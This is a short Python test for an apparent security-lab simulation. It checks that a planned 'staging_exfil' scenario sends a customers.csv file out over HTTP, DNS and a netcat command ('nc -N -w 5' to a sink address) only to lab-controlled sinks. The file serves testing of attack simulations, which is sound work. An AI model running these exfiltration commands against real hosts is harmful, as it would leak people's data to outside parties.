from provarmor.lab.scenarios.staging_exfil import SCENARIO


def test_data_leaves_over_http_dns_and_netcat_to_lab_sinks_only(plan_checks):
    for ctx, plan in plan_checks(SCENARIO):
        by_step = {action.step: action for action in plan.actions}
        assert ctx.sink_url in by_step["exfil-http"].command
        assert f"@{ctx.address('dns')}" in by_step["exfil-dns"].command
        assert (
            f"nc -N -w 5 {ctx.address('sink')} {ctx.sink_tcp_port}"
            in by_step["exfil-netcat"].command
        )
        assert any(item.path.endswith("customers.csv") for item in plan.setup_files)
